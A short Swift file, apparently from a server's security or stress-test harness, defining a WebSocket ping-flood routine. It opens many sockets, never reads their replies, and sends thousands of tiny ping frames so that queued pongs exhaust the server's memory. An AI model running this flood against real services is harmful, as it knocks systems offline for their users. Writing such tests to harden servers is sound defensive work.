import CallWire

extension AttackContext {
  /// Each ping asks for a pong of its size, which nobody reads. Tiny ones cost most: what waits is often
  /// limited in bytes, and each pong that waits takes far more than its own.
  func floodPings() {
    let fleet = keepWebSockets(
      subprotocol: { _ in DeviceCodec.protobuf.subprotocol },
      opened: { socket, _ in socket.stopReading() })
    let lot = 6_000
    let ping = AttackBytes.frame(.ping, [0x70, 0x70])
    let pings = Array(repeatElement(ping, count: lot).joined())
    paceAttack(lot: lot, fleet) { socket, _ in socket.write(pings) }
  }
}
